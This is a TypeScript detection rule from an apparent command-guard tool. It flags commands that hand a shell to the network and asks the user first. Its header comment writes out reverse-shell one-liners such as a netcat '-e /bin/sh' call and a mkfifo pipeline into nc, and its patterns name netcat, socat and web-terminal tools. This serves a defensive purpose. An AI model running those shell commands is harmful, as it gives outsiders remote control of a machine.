/**
 * A shell handed to the network: `nc -e /bin/sh`, `ncat --sh-exec`, `socat TCP:… EXEC:sh`, a shell in a pipeline
 * with a network client (`mkfifo f; cat f | sh -i | nc host port > f`), web terminals (`gotty -w bash`, `ttyd
 * bash`), reverse tunnels to another host (`ssh -R 4444:localhost:22 user@elsewhere`), and inline code that joins
 * a socket to a shell. Port checks (`nc -z`), plain forwarders (`socat TCP-LISTEN:… TCP:…`) and local tunnels
 * (`ssh -L`) are left alone.
 */
import { isShell, SHELLS } from '../shell/commands.js';
import type { Invocation } from '../shell/invocation.js';
import type { Rule } from './types.js';

/** Netcat's options that run a program for each connection. */
const NC_EXEC = /^(?:-e|-c|--exec|--sh-exec|--lua-exec)$|^-[a-zA-Z]*[ec]$|^-e\/|^--(?:exec|sh-exec)=/;
const NC = new Set(['nc', 'ncat', 'netcat', 'nc.openbsd', 'nc.traditional', 'pwncat']);
/** socat addresses that run a program, and those that reach the network. */
const SOCAT_EXEC = /^(?:EXEC|SYSTEM)[:,]/i;
const SOCAT_NET = /^(?:TCP|TCP4|TCP6|UDP|UDP4|UDP6|SCTP|SSL|OPENSSL|DCCP)(?:-[A-Z]+)?[:,]/i;
/** Network clients a piped shell can talk through. */
const NET_CLIENTS = new Set([...NC, 'telnet', 'socat', 'openssl', 'websocat', 'cryptcat']);
const WEB_TERMINALS = new Set(['gotty', 'ttyd', 'wetty', 'shellinaboxd']);
const LOCAL = /^(?:localhost|127\.\d+\.\d+\.\d+|::1|\[::1\])$/;

/** Interpreters whose inline code can join a socket to a shell. */
const INTERPRETERS = 'python python2 python3 node nodejs bun deno perl ruby php lua'.split(' ');

const SHELL_WORD = /^(?:\/\S*\/)?(?:ba|z|da|k|c|tc|fi|a)?sh$/;

/** Inline code joining a socket to a shell: `fsockopen(…); exec("/bin/sh -i <&3 …")`, `net.Socket … spawn("/bin/sh")`. */
const CODE_SOCKET =
  /\bnet\.Socket\b|\bnet\.connect\b|\bcreateConnection\b|\bfsockopen\s*\(|\bsocket\.socket\b|\bTCPSocket\b|\bIO::Socket\b|\bsocket\s*\(\s*S(?:OCK|_)/;
const CODE_SHELL = /["'`](?:\/bin\/|\/usr\/bin\/)?(?:ba|z|da)?sh(?:\s+-i)?\b[^"'`]*["'`]|\bpty\.spawn\b/;

function ncRunsProgram(inv: Invocation): string | false {
  const a = inv.args.find((x) => NC_EXEC.test(x.value ?? ''));
  if (!a) return false;
  // `-c` of the OpenBSD netcat is --crlf only when no program follows; a shell word after it is a program
  const i = inv.args.indexOf(a);
  const v = a.value!;
  const next = inv.args[i + 1]?.value ?? '';
  if (/^-[a-zA-Z]*c$/.test(v) && !v.includes('e') && !SHELL_WORD.test(next) && !/\s/.test(next)) return false;
  return `${inv.name} ${v}`;
}

function sshReverse(inv: Invocation): string | false {
  const a = inv.args;
  let reverse: string | null = null;
  let host: string | null = null;
  for (let i = 0; i < a.length; i++) {
    const v = a[i]!.value ?? '';
    if (v === '-R') reverse = a[++i]?.value ?? '?';
    else if (v.startsWith('-R')) reverse = v.slice(2);
    else if (v === '-o' && /^RemoteForward[=\s]/i.test(a[i + 1]?.value ?? '')) reverse = a[++i]!.value!;
    else if (/^-[bcDEeFIiJLlmOopQSWwBP]$/.test(v)) i++;
    else if (!v.startsWith('-') && host === null) host = v;
  }
  if (reverse === null || host === null) return false;
  const name = host.replace(/^[^@]*@/, '');
  return LOCAL.test(name) ? false : `ssh -R ${reverse} to ${host}`;
}

export const netShellRules: Rule[] = [
  {
    id: 'exfil.network-shell',
    pack: 'exfil',
    reason:
      'hands a shell to the network (a reverse or bind shell, a web terminal, a reverse tunnel to another host); ask the user',
    commands: [...NC, 'socat', ...WEB_TERMINALS, 'ssh', ...SHELLS, ...INTERPRETERS],
    match: (inv) => {
      if (NC.has(inv.name)) return ncRunsProgram(inv);
      if (inv.name === 'socat') {
        const vals = inv.args.map((x) => x.value ?? '');
        return vals.some((v) => SOCAT_EXEC.test(v)) && vals.some((v) => SOCAT_NET.test(v))
          ? `socat ${vals.find((v) => SOCAT_EXEC.test(v))}`
          : false;
      }
      if (WEB_TERMINALS.has(inv.name)) {
        const sh = inv.args.find(
          (x) => SHELL_WORD.test(x.value ?? '') || /^(?:python\d*|node|perl|ruby)$/.test(x.value ?? ''),
        );
        return sh ? `${inv.name} ${sh.value}` : false;
      }
      if (inv.name === 'ssh') return sshReverse(inv);
      if (isShell(inv.name) && !inv.args.some((x) => /^-[a-zA-Z]*c[a-zA-Z]*$/.test(x.value ?? ''))) {
        const peer = [...inv.upstream, ...inv.downstream].find((x) => NET_CLIENTS.has(x.name));
        return peer ? `${peer.name} ↔ ${inv.name}` : false;
      }
      const code = inv.code?.text;
      if (code && /ock|onnect/.test(code) && CODE_SOCKET.test(code) && CODE_SHELL.test(code))
        return `${inv.name} ${inv.code!.flag}: socket + shell`;
      return false;
    },
  },
];
